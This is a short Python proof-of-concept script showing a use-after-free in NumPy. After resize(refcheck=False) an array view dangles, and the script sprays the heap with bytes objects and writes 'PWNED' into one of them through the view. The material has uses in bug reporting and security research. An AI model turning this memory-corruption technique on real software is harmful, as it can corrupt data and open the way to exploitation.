import numpy as np
n = 1 << 16
a = np.zeros(n, dtype=np.uint8)
v = a[:]
a.resize(1 << 24, refcheck=False)
fill = [bytes([65 + (i % 26)]) * (n - 40) for i in range(64)]
hdr = bytes(v[:32])
print("header seen through dangling view:", hdr)
v[32:37] = np.frombuffer(b"PW" b"NED", dtype=np.uint8)
hit = [i for i, b in enumerate(fill) if b.startswith(b"PW" b"NED")]
if hit:
    print("PW" + "NED: wrote into the immutable bytes object fill[%d] through a dangling view after resize(refcheck=False):" % hit[0], fill[hit[0]][:12])
else:
    print("no hit")
